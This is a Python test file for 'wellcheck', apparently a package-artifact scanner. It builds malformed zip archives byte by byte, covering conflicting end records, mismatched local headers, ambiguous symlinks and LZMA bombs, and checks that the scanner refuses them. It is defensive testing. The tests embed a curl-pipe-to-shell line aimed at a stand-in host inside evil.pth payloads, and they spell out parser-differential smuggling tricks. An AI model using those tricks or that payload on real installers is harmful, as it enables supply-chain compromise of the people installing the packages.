"""Issue 11: wellcheck reads a zip as the runtime does, or refuses it.

Each hostile zip is built here, byte by byte, so that CPython's ``zipfile`` (what
pip uses) and wellcheck before this issue saw different archives; the test shows
what ``zipfile`` sees and that wellcheck now sees the same or refuses the file.
"""

from __future__ import annotations

import io
import lzma
import stat
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from zipkit import WHEEL, RawMember, extra_field, raw_zip, symlink, unicode_path

from wellcheck.artifact import open_artifact
from wellcheck.artifact.base import EntryKind
from wellcheck.artifact.limits import Limits
from wellcheck.errors import ArtifactError, ExitStatus, HostileArtifactError, LimitExceededError

EVIL = b"import os; os.system('curl http://x | sh')\n"
CLEAN = raw_zip([RawMember("app.py", b"def handler(e, c):\n    return 1\n")])


def write(tmp_path: Path, data: bytes, name: str = "a.zip") -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def refused(tmp_path: Path, data: bytes) -> HostileArtifactError:
    with pytest.raises(HostileArtifactError) as caught:
        open_artifact(write(tmp_path, data)).close()
    assert caught.value.exit_status is ExitStatus.INPUT_ERROR
    return caught.value


def zipfile_names(data: bytes) -> list[str]:
    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def eocd(data: bytes) -> int:
    return data.rindex(b"PK\x05\x06")


# -- item 1: end records ------------------------------------------------------------


def test_a_later_end_record_whose_comment_runs_past_the_end_is_ambiguous(
    tmp_path: Path,
) -> None:
    """The issue's case: zipfile and unzip take the last record (comment cut short), Go's
    archive/zip the earlier one that fits; wellcheck used to read the clean one."""
    evil = raw_zip([RawMember("evil.pth", EVIL)], comment_length=200)
    data = CLEAN + evil
    assert zipfile_names(data) == ["evil.pth"]
    error = refused(tmp_path, data)
    assert (error.rule, error.member) == ("ambiguous-end-record", "(end of central directory)")
    assert "Go archive/zip" in str(error)


def test_an_end_record_hidden_in_the_comment_java_would_skip_is_ambiguous(
    tmp_path: Path,
) -> None:
    """The clean zip's comment holds a whole zip and two more bytes: zipfile takes the inner
    (last) record, Java's ZipFile the outer one, whose comment ends at the end of file."""
    inner = raw_zip([RawMember("evil.pth", EVIL)]) + b"xx"
    clean = raw_zip([RawMember("app.py", b"ok")], comment=b"")
    data = clean[:-2] + struct.pack("<H", len(inner)) + inner
    assert zipfile_names(data) == ["evil.pth"]
    assert "Java ZipFile" in str(refused(tmp_path, data))


def test_a_truncated_comment_alone_is_read_as_zipfile_reads_it(tmp_path: Path) -> None:
    """One end record whose comment length lies: every reader that accepts it agrees."""
    data = raw_zip([RawMember("app.py", b"ok")], comment=b"abc", comment_length=4000)
    assert zipfile_names(data) == ["app.py"]
    with open_artifact(write(tmp_path, data)) as opened:
        assert opened.trees[0].read_bytes("app.py") == b"ok"


def test_an_end_record_inside_a_comment_that_every_reader_picks_is_read(tmp_path: Path) -> None:
    """A zip whose comment ends with another whole zip: the last record ends the file, so
    zipfile, zipimport, Go and Java all read the inner archive, and so does wellcheck."""
    inner = raw_zip([RawMember("inner.py", b"inner")])
    outer = raw_zip([RawMember("outer.py", b"outer")], comment=inner)
    assert zipfile_names(outer) == ["inner.py"]
    with open_artifact(write(tmp_path, outer)) as opened:
        assert list(opened.trees[0].entries()) == ["inner.py"]


def _two_directories(plain: str) -> bytes:
    """A zip64 zip with two central directories: the zip64 end record names the second
    (evil.pth), the plain end record either placeholders or the first (app.py)."""
    first = raw_zip([RawMember("app.py", b"ok"), RawMember("evil.pth", EVIL)], zip64=True)
    records = first[first.index(b"PK\x01\x02") : first.index(b"PK\x06\x06")]
    app_record = records[: records.index(b"PK\x01\x02", 4)]
    evil_record = records[len(app_record) :]
    body = first[: first.index(b"PK\x01\x02")]
    cd1_at, cd2_at = len(body), len(body) + len(app_record)
    zip64_at = cd2_at + len(evil_record)
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(evil_record), cd2_at
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, zip64_at, 1)
    if plain == "placeholders":
        fields = (0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    else:
        fields = (1, 1, len(app_record), cd1_at)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *fields, 0)
    return body + app_record + evil_record + record + locator + end


def test_zip64_and_plain_end_records_that_disagree_are_ambiguous(tmp_path: Path) -> None:
    """zipfile reads the zip64 record's directory; zipimport before 3.13 ignores zip64 and
    reads the plain record's."""
    honest = _two_directories("placeholders")
    assert zipfile_names(honest) == ["evil.pth"]
    with open_artifact(write(tmp_path, honest)) as opened:
        assert list(opened.trees[0].entries()) == ["evil.pth"]
    lying = _two_directories("first directory")
    assert zipfile_names(lying) == ["evil.pth"]
    error = refused(tmp_path, lying)
    assert error.rule == "ambiguous-end-record"
    assert "end record and the zip64 end record disagree" in str(error)


def test_a_zip64_locator_pointing_elsewhere_is_ambiguous(tmp_path: Path) -> None:
    """zipfile reads the zip64 record right before the locator; Go, Java and unzip follow
    the locator's offset."""
    data = bytearray(raw_zip([RawMember("app.py", b"ok")], zip64=True))
    locator = data.rindex(b"PK\x06\x07")
    struct.pack_into("<Q", data, locator + 8, 0)  # the offset of the first local header
    assert zipfile_names(bytes(data)) == ["app.py"]
    assert "locator points elsewhere" in str(refused(tmp_path, bytes(data)))


def test_a_zip64_record_without_a_locator_is_ambiguous(tmp_path: Path) -> None:
    """zipimport 3.13 uses a zip64 end record found right before the end record even
    without a locator; zipfile does not.  Here it hides in the last central record's
    comment, which zipfile reads past."""
    data = raw_zip([RawMember("app.py", b"ok")])
    end = eocd(data)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 9, 9, 999, 0)
    hidden = record + bytes(20)  # where a locator would be
    cd = data.index(b"PK\x01\x02")
    central = bytearray(data[cd:end])
    struct.pack_into("<H", central, 32, len(hidden))  # the record's comment length
    tail = bytearray(data[end:])
    struct.pack_into("<L", tail, 12, len(central) + len(hidden))  # central directory size
    forged = data[:cd] + bytes(central) + hidden + bytes(tail)
    assert zipfile_names(forged) == ["app.py"]
    assert "without a locator" in str(refused(tmp_path, forged))


def test_honest_zip64_archives_still_open(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        with zf.open("big.py", "w", force_zip64=True) as fh:
            fh.write(b"x = 1\n")
        zf.writestr("small.py", b"y = 2\n")
    data = raw_zip([RawMember("a.py", b"a"), RawMember("b.py", b"b")], zip64=True)
    for archive in (buffer.getvalue(), data):
        with open_artifact(write(tmp_path, archive)) as opened:
            assert len(opened.trees[0].entries()) == 2


# -- item 2: local headers --------------------------------------------------------


@pytest.mark.parametrize(
    ("member", "problem"),
    [
        (RawMember("README.txt", EVIL, local_name=b"evil.pth"), "names differ"),
        (RawMember("README.txt", EVIL, method=0, local_method=8), "method"),
        (RawMember("README.txt", EVIL, local_sizes=(0, 1, 1)), "CRC or sizes"),
        (RawMember("README.txt", EVIL, local_flags=0x1), "encryption"),
    ],
)
def test_a_local_header_that_disagrees_is_refused_at_open(
    tmp_path: Path, member: RawMember, problem: str
) -> None:
    """On a member no check ever reads (README.txt): a streaming reader writes what the
    local header says; wellcheck used to pass the zip."""
    error = refused(tmp_path, raw_zip([RawMember("app.py", b"ok"), member]))
    assert (error.rule, error.member) == ("local-header-mismatch", "README.txt")
    assert problem in error.detail


def test_local_headers_past_the_bulk_read_size_are_checked_one_by_one(tmp_path: Path) -> None:
    """Archives with more than 16 MiB of data have each local header read on its own."""
    big = RawMember("data/big.bin", bytes(17 << 20), method=0)
    honest = raw_zip([big, RawMember("app.py", b"ok")])
    with open_artifact(write(tmp_path, honest)) as opened:
        assert opened.trees[0].read_bytes("app.py") == b"ok"
    lying = raw_zip([big, RawMember("README.txt", EVIL, local_name=b"evil.pth")])
    assert refused(tmp_path, lying).rule == "local-header-mismatch"


def test_a_member_without_a_local_header_signature_is_refused_at_open(tmp_path: Path) -> None:
    data = bytearray(raw_zip([RawMember("app.py", b"ok"), RawMember("README.txt", EVIL)]))
    second = data.index(b"PK\x03\x04", 4)
    data[second : second + 4] = b"PK\x00\x00"  # every other field still matches
    with pytest.raises(ArtifactError, match=r"no local header for member 'README\.txt'"):
        open_artifact(write(tmp_path, bytes(data))).close()


def test_a_name_the_local_header_decodes_differently_is_refused(tmp_path: Path) -> None:
    """Found by the differential fuzzer: the same bytes, flagged UTF-8 in one header only,
    are two names (zipfile: "File name in directory ... and header ... differ")."""
    member = RawMember("café.py".encode(), b"x", flags=0x800, local_flags=0)
    with pytest.raises(zipfile.BadZipFile, match="differ"):
        zipfile.ZipFile(io.BytesIO(raw_zip([member]))).read("café.py")
    error = refused(tmp_path, raw_zip([member]))
    assert error.rule == "local-header-mismatch" and "UTF-8" in error.detail


def test_streamed_zips_with_data_descriptors_open(tmp_path: Path) -> None:
    """Writers that stream (zipfile to a pipe, Java, Go, Node's archiver) leave the local
    CRC and sizes at zero and set bit 3: not a mismatch."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("app.py", b"print('ok')\n" * 50)
    with open_artifact(write(tmp_path, pipe.getvalue())) as opened:
        assert opened.trees[0].read_bytes("app.py") == b"print('ok')\n" * 50


def test_data_that_only_the_local_extra_field_pushes_into_the_next_header_is_refused(
    tmp_path: Path,
) -> None:
    """a.py's central record leaves room before b.py's header at 100, but its local header
    carries a 44-byte extra field: its data really runs over b.py's header (zipfile 3.12+:
    "Overlapped entries")."""
    b_record = _local(b"b.py", b"b")
    a_data = bytes(22) + b_record[:28]
    a_record = _local(b"a.py", a_data, extra=extra_field(0x5455, bytes(40)))
    body = a_record + b_record[28:]
    central = _central(b"a.py", a_data, 0) + _central(b"b.py", b"b", 100)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(body), 0)
    assert len(a_record) - len(a_data) + 22 == 100  # b.py's header starts inside a.py's data
    assert refused(tmp_path, body + central + end).rule == "overlapping-entries"


def _local(name: bytes, data: bytes, extra: bytes = b"") -> bytes:
    fields = (20, 0, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), len(extra))
    return struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", *fields) + name + extra + data


def _central(name: bytes, data: bytes, offset: int) -> bytes:
    crc, size = zlib.crc32(data), len(data)
    fields = (20, 0, 20, 0, 0, 0, 0, 0, crc, size, size, len(name), 0, 0, 0, 0, 0, offset)
    return struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", *fields) + name


# -- item 3: compression methods, unreadable members, symlinks, modes -------------


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_bzip2_and_lzma_members_are_read_as_zipfile_reads_them(tmp_path: Path, method: int) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zf:
        zf.writestr("evil.pth", EVIL)
        zf.writestr("big.bin", bytes(range(256)) * 400)
    with open_artifact(write(tmp_path, buffer.getvalue())) as opened:
        assert opened.trees[0].read_bytes("evil.pth") == EVIL
        assert opened.trees[0].read_bytes("big.bin") == bytes(range(256)) * 400
        assert opened.trees[0].unread == ()


def _lzma_member(data: bytes, *, dict_size: int = 1 << 16, end_marker: bool = True) -> bytes:
    """Zip's LZMA layout: version, properties size, 5 properties bytes, raw LZMA1."""
    lzma1 = {"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}
    stream = lzma.compress(data, format=lzma.FORMAT_RAW, filters=[lzma1])
    if not end_marker:
        stream = stream[:-6]  # not exact: a cut stream, for the size checks
    props = bytes([(2 * 5 + 0) * 9 + 3]) + dict_size.to_bytes(4, "little")
    return b"\x09\x14\x05\x00" + props + stream


def test_an_lzma_member_is_bounded_like_deflate(tmp_path: Path) -> None:
    """The member cap and the ratio limit hold for LZMA; a header claiming a 4 GiB
    dictionary is decoded with one no larger than the member."""
    bomb = bytes(3 << 20)
    members = [
        RawMember("bomb.bin", bomb, method=14, size=100, payload=_lzma_member(bomb), flags=2),
        RawMember(
            "claims.py",
            b"x = 1\n" * 10,
            method=14,
            flags=2,
            payload=_lzma_member(b"x = 1\n" * 10, dict_size=0xFFFFFFFF),
        ),
    ]
    limits = Limits(max_member_size=1 << 20, max_total_size=64 << 20)
    with open_artifact(write(tmp_path, raw_zip(members)), limits) as opened:
        assert opened.trees[0].read_bytes("claims.py") == b"x = 1\n" * 10
        with pytest.raises(LimitExceededError):
            opened.trees[0].read_bytes("bomb.bin")


@pytest.mark.parametrize(
    ("member", "reason"),
    [
        (RawMember("site/evil.pth", EVIL, method=9), "compression method 9 (deflate64), "),
        (RawMember("pkg/__init__.py", EVIL, method=93), "compression method 93 (zstd), "),
        (RawMember("pkg-1.0.dist-info/METADATA", b"Name: pkg\n", method=98), "98 (PPMd), "),
        (RawMember("pkg/core.so", b"\x7fELF", method=0, flags=0x1), "encrypted"),
    ],
)
def test_members_a_scan_reads_but_cannot_decode_are_listed_unread(
    tmp_path: Path, member: RawMember, reason: str
) -> None:
    data = raw_zip([member, RawMember("data/blob.bin", b"x", method=9)])
    with open_artifact(write(tmp_path, data)) as opened:
        [unread] = opened.trees[0].unread  # not the data file
    assert unread.startswith(f"{member.name}: ") and reason in unread


def test_unread_members_of_a_nested_archive_name_their_chain(tmp_path: Path) -> None:
    wheel = raw_zip([RawMember("evil.pth", EVIL, method=9)])
    data = raw_zip([RawMember("vendor/dep.whl", wheel, method=0)])
    with open_artifact(write(tmp_path, data)) as opened:
        unread = [line for tree in opened.trees for line in tree.unread]
    assert unread == [
        "vendor/dep.whl!evil.pth: compression method 9 (deflate64), which wellcheck does not read"
    ]


def _wheel(*members: RawMember) -> bytes:
    info = "evil-1.0.dist-info"
    return raw_zip(
        [
            RawMember(f"{info}/METADATA", b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
            RawMember(f"{info}/WHEEL", WHEEL),
            RawMember(f"{info}/RECORD", b""),
            *members,
        ]
    )


def test_symlink_members_of_a_wheel_are_the_regular_files_pip_writes(tmp_path: Path) -> None:
    """pip writes every wheel member as a file: a "link" whose target is code is a .pth."""
    wheel = _wheel(symlink("evil.pth", EVIL.decode()), symlink("evil/__init__.py", "x = 1"))
    assert zipfile.ZipFile(io.BytesIO(wheel)).read("evil.pth") == EVIL
    with open_artifact(write(tmp_path, wheel, "evil-1.0-py3-none-any.whl")) as opened:
        assert opened.info.kind == "wheel"
        entry = opened.trees[0].entries()["evil.pth"]
        assert (entry.kind, entry.link_target) == (EntryKind.FILE, None)
        assert opened.trees[0].read_bytes("evil.pth") == EVIL
    nested = raw_zip([RawMember("app.py", b"ok"), RawMember("vendor/evil.whl", wheel, method=0)])
    with open_artifact(write(tmp_path, nested)) as opened:
        inner = opened.trees[1]
        assert inner.chain == ("vendor/evil.whl",)
        assert inner.entries()["evil.pth"].kind is EntryKind.FILE
        assert inner.read_bytes("evil.pth") == EVIL


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("evil.pth", "import os; os.system('x')"),
        ("sitecustomize.py", "import evil"),  # one space: zipfile writes a line of Python
        ("lib/x.py", "a\nb"),
        ("lib/y.py", "\x00"),
        ("lib/z.py", "exec(open('x').read())"),
        ("lib/w.py", ""),
        ("paths.pth", "real/dir"),  # a .pth link: zipfile writes a .pth of that text
    ],
)
def test_a_lambda_zip_link_unzip_and_zipfile_read_differently_is_refused(
    tmp_path: Path, name: str, target: str
) -> None:
    data = raw_zip(
        [RawMember("app.py", b"ok"), RawMember("real/dir/m.py", b"m"), symlink(name, target)]
    )
    error = refused(tmp_path, data)
    assert (error.rule, error.member) == ("ambiguous-symlink", name)


def test_plausible_links_stay_links(tmp_path: Path) -> None:
    data = raw_zip(
        [
            RawMember("lib/libssl.so.3", b"\x7fELF"),
            symlink("lib/libssl.so", "libssl.so.3"),
            symlink("bin/python3", "../lib/python3.12=x:y@1,2%+~"),
            symlink("données/lien", "../lib/libssl.so"),
        ]
    )
    with open_artifact(write(tmp_path, data)) as opened:
        entries = opened.trees[0].entries()
        assert entries["lib/libssl.so"].link_target == "libssl.so.3"
        assert entries["données/lien"].kind is EntryKind.SYMLINK
        assert opened.trees[0].read_bytes("données/lien") == b"\x7fELF"


@pytest.mark.parametrize(
    ("system", "kind"),
    [
        (2, "symlink"),
        (3, "symlink"),
        (5, "symlink"),
        (16, "symlink"),
        (30, "symlink"),
        (0, "file"),
        (19, "file"),
    ],
)
def test_symlink_modes_count_for_the_hosts_unzip_makes_links_for(
    tmp_path: Path, system: int, kind: str
) -> None:
    """unzip 6.0 (SYMLINK_HOST) makes a link from a BeOS or VMS entry too; wellcheck used to
    read such a member as a file holding its target text."""
    link = RawMember("hook.py", b"real.py", method=0, mode=stat.S_IFLNK | 0o777, system=system)
    data = raw_zip([RawMember("real.py", EVIL), link])
    with open_artifact(write(tmp_path, data)) as opened:
        assert opened.trees[0].entries()["hook.py"].kind.value == kind
        expected = EVIL if kind == "symlink" else b"real.py"
        assert opened.trees[0].read_bytes("hook.py") == expected


def test_a_directory_mode_without_a_slash_is_the_regular_file_unzip_writes(
    tmp_path: Path,
) -> None:
    data = raw_zip(
        [
            RawMember("evil.pth", EVIL, mode=stat.S_IFDIR | 0o755),
            RawMember("real/", b"", method=0, mode=stat.S_IFREG | 0o644),
        ]
    )
    with open_artifact(write(tmp_path, data)) as opened:
        entries = opened.trees[0].entries()
        assert entries["evil.pth"].kind is EntryKind.FILE
        assert entries["real"].kind is EntryKind.DIR  # a trailing slash makes a directory
        assert opened.trees[0].read_bytes("evil.pth") == EVIL
        assert any("unix mode says directory" in w for w in opened.info.warnings)


# -- extra fields and versions: what zipfile 3.12+ changes or refuses ------------------


def test_a_unicode_path_field_renaming_a_member_is_refused(tmp_path: Path) -> None:
    """zipfile 3.12+ and unzip install README.txt as evil.pth; zipfile 3.11 does not."""
    member = RawMember(
        "README.txt", EVIL, extra=unicode_path("evil.pth", header_name=b"README.txt")
    )
    error = refused(tmp_path, raw_zip([member]))
    assert (error.rule, error.member) == ("unicode-path-mismatch", "README.txt")


def test_a_unicode_path_field_that_agrees_or_is_stale_is_read(tmp_path: Path) -> None:
    same = RawMember("café.py", b"a", extra=unicode_path("café.py", header_name="café.py".encode()))
    stale = RawMember("b.py", b"b", extra=unicode_path("evil.pth", header_name=b"old-name.py"))
    with open_artifact(write(tmp_path, raw_zip([same, stale]))) as opened:
        assert sorted(opened.trees[0].entries()) == ["b.py", "café.py"]


def test_duplicate_zip64_or_unicode_path_fields_are_refused(tmp_path: Path) -> None:
    twice = unicode_path("a.py", header_name=b"a.py") * 2
    error = refused(tmp_path, raw_zip([RawMember("a.py", b"a", extra=twice)]))
    assert error.rule == "ambiguous-extra-field"
    zip64 = extra_field(1, struct.pack("<Q", 1)) + extra_field(1, struct.pack("<Q", 9))
    member = RawMember(
        "b.py", b"b", method=0, size=0xFFFFFFFF, local_sizes=(zlib.crc32(b"b"), 1, 1), extra=zip64
    )
    assert refused(tmp_path, raw_zip([member])).rule == "ambiguous-extra-field"


@pytest.mark.parametrize(
    ("member", "message"),
    [
        (RawMember("a.py", b"a", version_needed=64), "zip version 6.4"),
        (RawMember("a.py", b"a", size=0xFFFFFFFF, extra=extra_field(1, b"")), "zip64 extra"),
        pytest.param(
            RawMember("a.py", b"a", extra=extra_field(0x7075, b"\x01")),
            "Unicode Path",
            marks=pytest.mark.skipif(sys.version_info < (3, 12), reason="zipfile 3.12+ reads it"),
        ),
    ],
)
def test_what_zipfile_refuses_to_open_is_refused(
    tmp_path: Path, member: RawMember, message: str
) -> None:
    data = raw_zip([member])
    with pytest.raises((zipfile.BadZipFile, NotImplementedError)):
        zipfile.ZipFile(io.BytesIO(data))
    with pytest.raises(ArtifactError, match=message):
        open_artifact(write(tmp_path, data)).close()


def test_deflate_without_its_end_marker_is_hostile_not_unreadable(tmp_path: Path) -> None:
    """zipfile stops at the declared size and reads such a member; wellcheck cannot take it
    as merely unreadable (a check would skip it): hostile."""
    cut = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = cut.compress(EVIL) + cut.flush(zlib.Z_SYNC_FLUSH)  # every byte, no final block
    data = raw_zip([RawMember("evil.pth", EVIL, payload=payload)])
    assert zipfile.ZipFile(io.BytesIO(data)).read("evil.pth") == EVIL
    with (
        open_artifact(write(tmp_path, data)) as opened,
        pytest.raises(HostileArtifactError) as caught,
    ):
        opened.trees[0].read_bytes("evil.pth")
    assert caught.value.rule == "truncated-member"
